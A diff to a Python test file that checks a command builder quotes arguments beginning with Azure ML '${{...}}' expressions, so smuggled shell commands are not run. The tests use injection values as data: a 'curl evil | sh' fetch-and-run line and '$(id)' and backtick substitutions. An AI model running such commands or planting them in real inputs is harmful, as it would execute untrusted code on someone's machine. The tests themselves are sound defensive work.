@@ -36,10 +36,11 @@ def test_the_command_is_quoted_but_for_azure_mls_expressions() -> None:
     assert " ${{inputs.manifest}} " in command
 
 
-def test_what_only_begins_as_an_expression_is_quoted() -> None:
+@pytest.mark.parametrize("word", ["${{inputs.data}}; curl evil | sh", "${{inputs.data}}/$(id)", "${{`id`.x}}"])
+def test_what_only_begins_as_an_expression_is_quoted(word: str) -> None:
     """The shell of every rank would otherwise run what follows it."""
-    command = replace(arguments(), label_feature="${{inputs.data}}; curl evil | sh").to_command("program")
-    assert "${{inputs.data}}; curl evil | sh" in shlex.split(command)
+    command = replace(arguments(), label_feature=word).to_command("program")
+    assert word in shlex.split(command)
 
 
 def test_an_unknown_flag_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
